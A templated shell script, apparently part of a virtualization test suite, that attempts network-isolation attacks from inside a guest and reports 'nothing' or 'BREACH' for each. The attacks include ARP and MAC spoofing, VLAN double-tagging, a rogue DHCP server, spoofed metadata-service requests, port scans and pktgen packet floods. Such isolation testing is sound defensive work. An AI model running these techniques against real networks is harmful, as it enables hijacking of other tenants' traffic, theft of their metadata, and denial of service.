#!/bin/sh
# attacker
# Tries, from inside a real guest, everything that must lead to nothing. Says one line each: own (its own user-data), nothing, or BREACH.
me=@ME@ gateway=@GATEWAY@ gateway_mac=@GATEWAY_MAC@ sibling=@SIBLING@ sibling_mac=@SIBLING_MAC@
victim=@VICTIM@ machine=@MACHINE@ outside=@OUTSIDE@ inside=@INSIDE@ public=@PUBLIC@
metadata=169.254.169.254
mac=$(cat /sys/class/net/eth0/address)

fetch() {
  got=$(timeout 4 wget -q -O - "http://$2/openstack/latest/user_data" 2>/dev/null | head -c 40 | tr '\n' ' ')
  case $got in
    *attacker*) echo "attack: $1 own" ;;
    '') echo "attack: $1 nothing" ;;
    *) echo "attack: $1 BREACH $got" ;;
  esac
}
expect_nothing() {
  name=$1
  shift
  if timeout 5 "$@" >/dev/null 2>&1; then echo "attack: $name BREACH"; else echo "attack: $name nothing"; fi
}
knock() { expect_nothing "port $1:$2" nc -w 2 "$1" "$2" </dev/null; }
back_to_normal() {
  ip link set eth0 down
  ip link set eth0 address "$mac"
  ip addr flush dev eth0 scope global
  ip addr add "$me/@BITS@" dev eth0
  ip link set eth0 up
  ip route replace default via "$gateway" dev eth0
  ip route replace "$metadata/32" via "$gateway" dev eth0
}

fetch before "$metadata"
timeout 5 nc -w 3 "$sibling" 22 </dev/null | grep -q SSH && echo "attack: sibling reached"
ping -c 1 -W 3 "$gateway" >/dev/null && echo "attack: gateway answers"

# Somebody else's address.
for other in "$sibling" "$victim"; do
  ip addr add "$other/32" dev eth0
  ip route replace "$metadata/32" via "$gateway" dev eth0 src "$other"
  fetch "source $other" "$metadata"
  arping -c 2 -w 2 -U -I eth0 -s "$other" "$other" >/dev/null 2>&1
  arping -c 2 -w 2 -A -I eth0 -s "$other" "$other" >/dev/null 2>&1
  back_to_normal
done
ip addr add "$gateway/32" dev eth0
arping -c 2 -w 2 -U -I eth0 -s "$gateway" "$gateway" >/dev/null 2>&1
arping -c 2 -w 2 -A -I eth0 -s "$gateway" "$sibling" >/dev/null 2>&1
back_to_normal

# Somebody else's card, with and without the address.
ip link set eth0 down
ip link set eth0 address "$sibling_mac"
ip link set eth0 up
ip route replace default via "$gateway" dev eth0
ip route replace "$metadata/32" via "$gateway" dev eth0
fetch "mac" "$metadata"
ip addr add "$sibling/@BITS@" dev eth0
ip route replace "$metadata/32" via "$gateway" dev eth0 src "$sibling"
fetch "mac and source" "$metadata"
back_to_normal

# Frames with a tag, as oneself and as the sibling.
for tag in 0 5; do
  vconfig add eth0 $tag >/dev/null 2>&1
  ip link set eth0.$tag up
  for as in "$me" "$sibling"; do
    ip addr flush dev eth0.$tag
    ip addr add "$as/32" dev eth0.$tag
    ip route replace "$gateway/32" dev eth0.$tag src "$as"
    arp -i eth0.$tag -s "$gateway" "$gateway_mac"
    ip route replace "$metadata/32" via "$gateway" dev eth0.$tag src "$as"
    fetch "tag $tag as $as" "$metadata"
  done
  arping -c 2 -w 2 -U -I eth0.$tag -s "$sibling" "$sibling" >/dev/null 2>&1
  vconfig rem eth0.$tag >/dev/null 2>&1
  back_to_normal
done

# With two tags, one inside the other.
vconfig add eth0 5 >/dev/null 2>&1
ip link set eth0.5 up
vconfig add eth0.5 7 >/dev/null 2>&1
ip link set eth0.5.7 up
ip addr add "$sibling/32" dev eth0.5.7
ip route replace "$gateway/32" dev eth0.5.7 src "$sibling"
arp -i eth0.5.7 -s "$gateway" "$gateway_mac"
ip route replace "$metadata/32" via "$gateway" dev eth0.5.7 src "$sibling"
fetch "two tags" "$metadata"
arping -c 2 -w 2 -U -I eth0.5.7 -s "$sibling" "$sibling" >/dev/null 2>&1
vconfig rem eth0.5.7 >/dev/null 2>&1
vconfig rem eth0.5 >/dev/null 2>&1
back_to_normal

# A server of addresses of its own, for whoever asks: the sibling does soon.
cat >/tmp/udhcpd.conf <<END
start $gateway
end $gateway
interface eth0
option router $me
option dns $me
END
touch /tmp/leases
(udhcpd -f -I "$me" /tmp/udhcpd.conf >/tmp/udhcpd.log 2>&1 &)
echo "attack: serves addresses"

# IPv6, to where the gateway would be.
echo 0 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6 2>/dev/null
sleep 2
# Says on each start of the card that its addresses are here.
echo 1 >/proc/sys/net/ipv6/conf/eth0/ndisc_notify
ip -6 addr add fd00::@BITS@/64 dev eth0
ip link set eth0 down
ip link set eth0 up
back_to_normal
ping6 -c 1 -W 1 -I eth0 ff02::1 >/dev/null 2>&1
[ -d /proc/sys/net/ipv6 ] && echo "attack: has ipv6"
expect_nothing ipv6 ping6 -c 2 -W 2 -I eth0 @GATEWAY_LINK_LOCAL@

# Others' machines and services.
fetch "victim's address" "$victim"
expect_nothing "ping victim" ping -c 2 -W 2 "$victim"
expect_nothing "ping machine" ping -c 2 -W 2 "$machine"
for target in "$gateway" "$victim" "$machine" "$metadata" 100.100.100.200 169.254.0.23; do
  for port in 22 53 67 111 "$outside" "$inside"; do knock "$target" "$port" & done
  wait
done
knock "$gateway" 80
for target in @CLOSED@; do
  for port in 22 53 80 443 9000; do knock "$target" $port & done
  wait
done
timeout 5 nc -w 3 @NEIGHBOUR@ 9000 </dev/null | grep -q "$public" && echo "attack: outside answers"

# As much as it can send, one after the other: names, addresses, the gateway, the world, from its own and from foreign addresses.
modprobe pktgen
echo "add_device eth0" >/proc/net/pktgen/kpktgend_0
flood() {
  while [ $# -gt 0 ]; do
    echo "$1" >/proc/net/pktgen/eth0
    shift
  done
  # In a shell of its own: a child that ends would interrupt it.
  sh -c 'echo start >/proc/net/pktgen/pgctrl'
  sed -n 's/.*pkts-sofar: \([0-9]*\).*/sent \1/p' /proc/net/pktgen/eth0
}
echo "attack: flood begins"
for i in 1 2 3 4 5 6 7 8; do
  (for j in 1 2 3 4 5 6 7 8 9 10 11 12; do timeout 4 wget -q -O /dev/null "http://$metadata/openstack/latest/meta_data.json"; done) 2>/dev/null &
done
to_gateway="dst_mac $gateway_mac"
flood "count 30000" "pkt_size 80" "delay 0" "$to_gateway" "dst $metadata" "src_min $me" "src_max $me" "udp_dst_min 53" "udp_dst_max 53"
flood "count 30000" "pkt_size 300" "delay 0" "dst_mac ff:ff:ff:ff:ff:ff" "dst 255.255.255.255" "src_min 0.0.0.0" "src_max 0.0.0.0" "udp_src_min 68" "udp_src_max 68" "udp_dst_min 67" "udp_dst_max 67"
flood "count 30000" "pkt_size 80" "delay 0" "$to_gateway" "dst $gateway" "src_min $sibling" "src_max $sibling" "udp_dst_min 9" "udp_dst_max 9"
flood "count 60000" "pkt_size 80" "delay 0" "$to_gateway" "dst @NEIGHBOUR@" "src_min $me" "src_max $me" "flag UDPDST_RND" "udp_dst_min 1024" "udp_dst_max 65000"
flood "count 30000" "pkt_size 80" "delay 0" "$to_gateway" "dst @HOST@" "src_min $me" "src_max $me" "flag UDPDST_RND" "udp_dst_min 1024" "udp_dst_max 65000"
for i in 1 2 3 4 5 6; do arping -c 20 -w 3 -I eth0 "@VICTIM@" >/dev/null 2>&1 & done
wait
echo "attack: flood ends"
grep -q SENDING /tmp/udhcpd.log && echo "attack: addresses BREACH"
sleep 5

fetch after "$metadata"
echo "attack: over"
